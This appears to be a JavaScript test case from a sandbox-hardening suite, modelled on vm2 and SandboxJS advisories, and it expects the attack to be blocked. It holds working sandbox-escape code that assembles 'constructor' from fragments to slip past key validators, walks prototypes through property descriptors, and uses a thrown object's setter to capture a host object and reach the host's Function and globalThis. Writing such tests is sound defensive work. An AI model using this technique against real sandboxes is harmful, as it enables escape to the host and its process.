// vector:  a guest callback throws an object with a `message` getter and a `hostContext` setter to a host function that catches the error, annotates it with host context and reads its message: the setter receives the host object
// origin:  vm2 CVE-2023-30547 / CVE-2023-37903 (host code touching guest-thrown objects); SandboxJS GHSA-58jh-xv4v-pcx4 (errors as a channel)
// expect:  blocked
// layers:  isolation
// family:  callbacks
// globals: hostTry
// Climb from any value to its realm's Function constructor through property descriptors only:
// no member expression names a forbidden key, so neither the validator nor the key guard sees one.
const K = ["con", "struc", "tor"].join("");
const own = (o, k) => { const d = Object.getOwnPropertyDescriptor(o, k); return d === undefined ? undefined : d.value; };
function functionOf(x) {
  for (let p = x; (typeof p === "object" || typeof p === "function") && p !== null; p = Reflect.getPrototypeOf(p)) {
    const c = own(p, K);
    if (typeof c === "function") { const F = own(Reflect.getPrototypeOf(c), K); if (typeof F === "function") return F; }
  }
  return undefined;
}
// The attempt wins only with the host's Function: its code sees the host's globalThis (with process).
function win(F) {
  if (typeof F !== "function") return false;
  let g;
  try { g = F("return globalThis")(); } catch (e) { return false; }
  if (g === null || typeof g !== "object" || typeof g.process !== "object") return false;
  g.__ringfenceCanary = "escaped";
  return true;
}
let escaped = false;
const reply = hostTry(() => {
  const thrown = {};
  Object.defineProperty(thrown, "message", { get() { return "guest message"; }, configurable: true });
  Object.defineProperty(thrown, "hostContext", {
    set(context) {
      if (context === null || typeof context !== "object") return;
      escaped = [context, own(context, "at"), own(context, "retry")].some((v) => win(functionOf(v)));
    },
    configurable: true,
  });
  throw thrown;
});
escaped ? "escaped" : String(reply);
